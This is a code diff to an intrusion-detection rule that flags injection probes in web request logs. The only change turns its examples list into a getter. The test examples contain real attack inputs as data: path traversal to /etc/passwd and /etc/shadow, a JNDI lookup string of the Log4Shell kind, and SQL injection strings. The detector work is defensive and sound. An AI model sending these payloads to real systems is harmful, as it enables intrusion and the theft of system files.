@@ -75,40 +75,42 @@ export const injectionProbe: Detector = {
     "that hold SQL, script tags or shell commands. Once per address in ten quiet minutes. Single words of a search, one step up and " +
     "encoded letters are left alone.",
   concerns: "requests",
-  examples: [
-    {
-      title: "A traversal out of the folder of downloads",
-      lines: [
-        requested(0),
-        requested(1, { address: "203.0.113.9", path: "/download?file=../../../../etc/passwd", status: 400 }),
-        requested(2, { address: "203.0.113.9", path: "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow", status: 400 }),
-      ],
-      raises: [{ line: 2, key: "203.0.113.9" }],
-    },
-    {
-      title: "A lookup in a query",
-      lines: [requested(0, { address: "203.0.113.9", path: "/search?q=$%7Bjndi:ldap://203.0.113.9/a%7D" })],
-      raises: [{ line: 1, key: "203.0.113.9" }],
-    },
-    {
-      title: "Two attempts at SQL",
-      lines: ["/item?id=1'+or+1=1--", "/item?id=1+union+select+1,2"].map((path, second) =>
-        requested(second, { address: "203.0.113.9", path, status: 500 }),
-      ),
-      raises: [{ line: 2, key: "203.0.113.9" }],
-    },
-    {
-      title: "People who search for odd things",
-      lines: [
-        requested(0, { address: "192.0.2.7", path: "/search?q=western+union+select+branches" }),
-        requested(1, { address: "192.0.2.8", path: "/search?q=don%27t+sleep" }),
-        requested(2, { address: "192.0.2.9", path: "/blog/../images/logo%20small.png" }),
-        requested(3, { address: "192.0.2.9", path: "/docs/etc/passwd-files.html" }),
-        ...series(5, 1, (second) => requested(4 + second, { path: "/price?format=${currency}" })),
-      ],
-      raises: [],
-    },
-  ],
+  get examples() {
+    return [
+      {
+        title: "A traversal out of the folder of downloads",
+        lines: [
+          requested(0),
+          requested(1, { address: "203.0.113.9", path: "/download?file=../../../../etc/passwd", status: 400 }),
+          requested(2, { address: "203.0.113.9", path: "/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow", status: 400 }),
+        ],
+        raises: [{ line: 2, key: "203.0.113.9" }],
+      },
+      {
+        title: "A lookup in a query",
+        lines: [requested(0, { address: "203.0.113.9", path: "/search?q=$%7Bjndi:ldap://203.0.113.9/a%7D" })],
+        raises: [{ line: 1, key: "203.0.113.9" }],
+      },
+      {
+        title: "Two attempts at SQL",
+        lines: ["/item?id=1'+or+1=1--", "/item?id=1+union+select+1,2"].map((path, second) =>
+          requested(second, { address: "203.0.113.9", path, status: 500 }),
+        ),
+        raises: [{ line: 2, key: "203.0.113.9" }],
+      },
+      {
+        title: "People who search for odd things",
+        lines: [
+          requested(0, { address: "192.0.2.7", path: "/search?q=western+union+select+branches" }),
+          requested(1, { address: "192.0.2.8", path: "/search?q=don%27t+sleep" }),
+          requested(2, { address: "192.0.2.9", path: "/blog/../images/logo%20small.png" }),
+          requested(3, { address: "192.0.2.9", path: "/docs/etc/passwd-files.html" }),
+          ...series(5, 1, (second) => requested(4 + second, { path: "/price?format=${currency}" })),
+        ],
+        raises: [],
+      },
+    ];
+  },
   start() {
     const suspects = new Map<string, Suspect>();
     const silentUntil = new Map<string, number>();
